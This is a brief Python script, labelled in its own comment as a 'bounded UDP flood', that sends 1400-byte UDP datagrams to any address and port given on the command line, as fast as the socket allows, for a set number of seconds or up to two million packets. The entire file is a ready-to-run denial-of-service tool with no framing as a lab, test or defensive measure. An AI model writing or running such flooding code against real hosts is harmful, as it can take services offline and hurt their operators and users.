# A bounded UDP flood: DST PORT SECONDS, 1400-byte datagrams as fast as the socket takes them.
import socket, sys, time
dst, port, secs = sys.argv[1], int(sys.argv[2]), float(sys.argv[3])
s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
s.setsockopt(socket.SOL_SOCKET, socket.SO_SNDBUF, 4 << 20)
buf = b"x" * 1400
end = time.time() + secs
n = 0
while time.time() < end and n < 2_000_000:
    try:
        s.sendto(buf, (dst, port)); n += 1
    except OSError:
        time.sleep(0.0005)
print("sent", n)
